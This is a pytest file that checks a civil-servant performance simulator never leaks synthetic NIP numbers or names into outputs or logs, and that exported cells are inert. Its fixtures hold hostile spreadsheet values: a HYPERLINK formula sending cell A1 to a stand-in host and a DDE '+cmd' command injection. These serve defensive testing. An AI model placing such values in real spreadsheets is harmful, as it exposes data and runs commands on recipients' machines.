"""End to end: known NIPs and names, in every form, never reach an output, a message or a log.

Files with NIPs written every way an HR export writes them (plain, grouped by blanks, dots,
dashes, "NIP." prefixed), names, ids that are NIPs or names in the pseudonymous scheme, and
hostile OPD/unit names go through ``validate``, ``score``, the API (load, simulate, compare)
and every writer. Then every output file is scanned -- every part of every xlsx (cells, sheet
names, docProps metadata), csv and html text, parquet values and metadata -- together with
stdout, stderr and the log records, for any identifier; and every text cell of every written
xlsx/csv must be inert.
"""

from __future__ import annotations

import csv
import logging
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from test_loader import rows, write_csv, write_xlsx

from kinerja_sim import cli
from kinerja_sim.report.files import is_inert

N = 36
NAMES = ["Zulkarnain Nasution", "Rahmawati Br Ginting", "Teuku Iskandar Muda", "Maria Ulfa",
         "Ahmad Dahlan Siregar", "Cut Nyak Meutia"]


def nip18(i: int) -> str:
    return f"19{70 + i % 25:02d}{i % 12 + 1:02d}{i % 28 + 1:02d}20{i % 20 + 5:02d}0{i % 9 + 1}" \
           f"{1 + i % 2}{i:03d}"


FORMS = [
    lambda n: n,
    lambda n: f"{n[:8]} {n[8:14]} {n[14]} {n[15:]}",
    lambda n: f"{n[:4]}.{n[4:8]}.{n[8:12]}.{n[12:14]}.{n[14]}.{n[15:]}",
    lambda n: f"NIP. {n}",
    lambda n: f"NIP:{n[:8]}-{n[8:14]}-{n[14]}-{n[15:]}",
]


def _employees(hostile: bool = True) -> tuple[list[dict], list[str], list[str]]:
    rs = rows(N)
    nips = [nip18(i) for i in range(N)]
    written = {}
    for i, r in enumerate(rs):
        head = i - i % 3
        form = FORMS[i % len(FORMS)]
        r["nip"] = written.setdefault(i, form(nips[i]))
        r["nip_penilai"] = "WALIKOTA" if i == head else FORMS[(i + 1) % len(FORMS)](nips[head])
        r["nama"] = f"{NAMES[i % len(NAMES)]} {i}"
        r["usia"] = str(30 + i % 30)
        if hostile and i < 3:
            r["opd"] = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
            r["unit_kerja"] = "+cmd|' /C calc'!A0"
        if hostile and 3 <= i < 6:
            r["opd"] = "@SUM(1+1)"
            r["unit_kerja"] = "-2+3"
    names = [r["nama"] for r in rs]
    return rs, nips, names


def _scan(text: str, nips: list[str], names: list[str], where: str) -> None:
    compact = re.sub(r"[\s.\-/:]", "", text)
    for n in nips:
        assert n not in compact, f"NIP found in {where}"
        assert n[:14] not in compact, f"NIP prefix found in {where}"
    low = text.lower()
    for name in names:
        assert name.lower() not in low, f"name found in {where}"
    for token in {w for name in names for w in name.split() if len(w) > 5 and w.isalpha()}:
        assert token.lower() not in low, f"name part {token!r} found in {where}"


def _scan_file(path: Path, nips, names) -> None:
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as z:
            for part in z.namelist():  # cells, shared strings, sheet names, docProps
                _scan(z.read(part).decode("utf-8", "replace"), nips, names, f"{path}:{part}")
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            assert is_inert(ws.title)
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (path, ws.title, c.coordinate)
                    assert is_inert(c.value), (path, ws.title, c.coordinate, c.value)
    elif path.suffix == ".csv":
        text = path.read_text(encoding="utf-8-sig")
        _scan(text, nips, names, str(path))
        for rec in csv.reader(text.splitlines()):
            for field in rec:
                assert _number(field) or is_inert(field), (path, field)
    elif path.suffix == ".parquet":
        import pyarrow.parquet as pq

        t = pq.read_table(path)
        meta = {k.decode(): v.decode("utf-8", "replace")
                for k, v in (t.schema.metadata or {}).items()}
        _scan(t.to_pandas().astype(str).to_csv() + repr(meta), nips, names, str(path))
    else:
        _scan(path.read_text(encoding="utf-8"), nips, names, str(path))


def _number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    d = tmp_path_factory.mktemp("privasi")
    rs, nips, names = _employees()
    csv_path = write_csv(d / "pegawai_nip.csv", rs)
    xlsx_path = write_xlsx(d / "pegawai_nip.xlsx", rs)
    wb = openpyxl.load_workbook(xlsx_path)  # '=...' typed as text in Excel: a string cell
    for row in wb["pegawai"].iter_rows(min_row=2, max_row=4, min_col=4, max_col=4):
        row[0].value = rs[0]["opd"]
        row[0].data_type = "s"
    wb.save(xlsx_path)
    # pseudonymous scheme holding what are really NIPs (punctuated) and names: hashed
    def staff_id(i: int) -> str:  # a name, or a staff number made from the NIP
        return names[i] if i % 2 else f"No.Peg {nips[i][8:]}"

    id_rows = []
    for i, r in enumerate(rs):
        r = dict(r)
        head = i - i % 3
        r["id_pegawai"] = staff_id(i)
        r["id_penilai"] = "WALIKOTA" if i == head else staff_id(head)
        if r["opd"].startswith("="):  # export refuses '=' OPD names; '+' is neutralised
            r["opd"] = "+" + r["opd"][1:]
        r.pop("nip")
        r.pop("nip_penilai")
        id_rows.append(r)
    id_path = write_csv(d / "pegawai_id.csv", id_rows)
    nip_ids = [dict(r, id_pegawai=FORMS[2](nips[i])) for i, r in enumerate(id_rows)]
    bad_id = write_csv(d / "pegawai_id_nip.csv", nip_ids)
    # invalid forms: scientific notation, NIP in a name column shifted, unknown rater
    bad, _, _ = _employees()
    bad[1]["nip"] = "1.99001E+17"
    bad[2]["nip"] = nips[2][:17]
    bad[4]["nip_penilai"] = nip18(900)
    bad[5]["nip"] = "Budi " + nips[5]
    bad[7]["usia"] = nips[7]  # a NIP pasted into a numeric column
    bad_path = write_csv(d / "pegawai_salah.csv", bad)
    bad_xlsx = write_xlsx(d / "pegawai_salah.xlsx", bad)
    wb = openpyxl.load_workbook(bad_xlsx)
    wb["pegawai"]["A3"] = int(nips[1])  # a NIP stored as a number
    wb.save(bad_xlsx)
    secret = nips + [nip18(900)]
    words = names + [f"No.Peg {n[8:]}" for n in nips]
    return {"dir": d, "csv": csv_path, "xlsx": xlsx_path, "id": id_path, "bad": bad_path,
            "bad_xlsx": bad_xlsx, "bad_id": bad_id, "nips": secret, "names": words}


def _run(capsys, *argv) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def test_no_identifier_reaches_any_output_message_or_log(files, capsys, caplog):
    caplog.set_level(logging.DEBUG)
    d, nips, names = files["dir"], files["nips"], files["names"]
    outputs: list[Path] = []
    streams: list[str] = []

    # CLI: validate (valid and invalid files), score from CSV and XLSX, empty salt
    code, out, err = _run(capsys, "validate", str(files["csv"]), str(files["xlsx"]),
                          str(files["id"]))
    assert code == 0, err
    streams += [out, err]
    code, out, err = _run(capsys, "validate", str(files["bad"]), str(files["bad_xlsx"]),
                          str(files["bad_id"]))
    assert code == 1 and "not an 18-digit NIP" in err and "stored as a number" in err
    assert "looks like a NIP" in err
    assert "scientific notation" in err and "no employee in this file" in err
    streams += [out, err]
    for src in ("csv", "xlsx", "id"):
        target = d / f"hasil_{src}.xlsx"
        code, out, err = _run(capsys, "score", str(files[src]), "--scenario",
                              "permenpanrb_6_2022_kurva", "--out", str(target), "--salt", "uji")
        assert code == 0, err
        streams += [out, err]
        outputs.append(target)
    code, out, err = _run(capsys, "score", str(files["csv"]), "--scenario", "status_quo",
                          "--out", str(d / "x.xlsx"), "--salt", "")
    assert code == 1 and "salt" in err and "Traceback" not in err
    streams += [out, err]

    # API and every writer
    from kinerja_sim import simulate
    from kinerja_sim.report.files import (
        html_table,
        write_csv,
        write_html,
        write_parquet,
        write_sheets,
    )
    from kinerja_sim.scenario import load_scenario
    from kinerja_sim.workforce import load_workforce
    from kinerja_sim.workforce.export import export_workforce

    for src in ("csv", "xlsx"):
        wf = load_workforce(files[src], salt="uji")
        sim = simulate(wf, load_scenario("permenpanrb_6_2022_kurva"), seed=3)
        outputs.append(write_sheets(d / f"api_{src}.xlsx", {
            "hasil": sim.final, "per_opd": cli.predikat_by_opd(sim.final).reset_index()}))
        outputs.append(write_csv(d / f"final_{src}.csv", sim.final))
        outputs.append(write_parquet(d / f"final_{src}.parquet", sim.final,
                                     {"source": wf.source}))
        outputs.append(write_html(d / f"per_opd_{src}.html",
                                  [html_table(cli.predikat_by_opd(sim.final), index=True)],
                                  title=sim.scenario.name, footer=wf.source))
    with pytest.raises(ValueError, match="formulas"):  # documented: '=' OPD names refused
        export_workforce(wf, d / "ekspor.xlsx")
    wf2 = load_workforce(files["id"], salt="uji")
    for ext in ("xlsx", "csv"):
        outputs.append(export_workforce(wf2, d / f"ekspor.{ext}"))
    assert wf2.employees["employee_id"].str.fullmatch(r"P-[0-9a-f]{12,}").all()

    for path in outputs:
        _scan_file(path, nips, names)
    for i, text in enumerate(streams):
        _scan(text, nips, names, f"stream {i}")
    _scan("\n".join(r.getMessage() for r in caplog.records), nips, names, "log")
    # the hostile OPD and unit names were written, inert
    wb = openpyxl.load_workbook(d / "hasil_csv.xlsx", read_only=True)
    cells = {v for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row}
    assert "'=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")" in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells


def test_scan_would_catch_a_leak(files, tmp_path):
    """The scan is not vacuous: a file holding one NIP in a punctuated form fails it."""
    leak = tmp_path / "bocor.csv"
    leak.write_text("a,b\n1," + FORMS[2](files["nips"][0]) + "\n")
    with pytest.raises(AssertionError, match="NIP"):
        _scan_file(leak, files["nips"], files["names"])
    named = tmp_path / "nama.html"
    named.write_text(f"<p>{files['names'][3]}</p>")
    with pytest.raises(AssertionError, match="name"):
        _scan_file(named, files["nips"], files["names"])
